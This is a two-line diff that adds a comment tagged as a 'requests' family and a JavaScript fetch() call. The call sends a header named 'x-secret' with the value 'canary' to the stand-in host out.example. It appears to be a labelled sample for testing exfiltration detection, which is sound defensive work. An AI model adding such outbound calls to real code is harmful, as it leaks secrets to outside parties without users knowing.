@@ -1,0 +1,2 @@
+/* {"family": "requests"} */
+fetch('https://out.example/fetch', { headers: { 'x-secret': 'canary' } });
